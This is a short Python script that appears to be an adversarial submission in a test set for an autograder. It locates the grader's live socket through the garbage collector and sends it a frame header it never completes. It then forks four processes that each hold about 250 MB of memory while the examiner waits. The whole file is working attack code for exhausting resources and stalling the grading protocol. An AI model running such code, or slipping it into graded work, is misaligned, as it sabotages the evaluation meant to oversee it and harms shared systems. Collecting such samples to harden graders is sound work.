# resources: begins a frame and never ends it, and takes memory in many processes while the examiner waits for the rest
# place: last
import gc
import os
import time

from autograder.student import wire

channel = next(each for each in gc.get_objects() if type(each) is wire.Channel and each.sock.fileno() > 0)
channel.sock.send(b"\x00\x10\x00\x00")
for _ in range(4):
    if os.fork() == 0:
        block = bytearray(os.urandom(1)) * (250 * 2**20)
        time.sleep(5)
        os._exit(len(block) % 2)
time.sleep(3.5)
channel.sock.send(bytes(0x1000))
print("held", "it all")
